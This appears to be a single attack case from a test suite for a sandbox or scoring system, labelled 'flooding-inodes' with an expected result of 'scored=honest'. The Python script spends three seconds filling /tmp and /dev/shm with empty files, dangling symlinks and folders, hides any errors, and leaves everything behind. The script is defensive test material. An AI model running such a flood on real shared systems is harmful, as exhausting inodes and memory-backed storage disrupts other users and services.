# attack: flooding-inodes  expect: scored=honest
"""As many empty files, folders and links as fit into three seconds, and leave them to whoever clears up."""

import contextlib
import os
import time

end, number = time.monotonic() + 3, 0
with contextlib.suppress(OSError):
    while time.monotonic() < end:
        for folder in ("/tmp", "/dev/shm"):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT))
            os.symlink("nowhere", f"{folder}/{number}-link")
            os.mkdir(f"{folder}/{number}-folder")
        number += 1
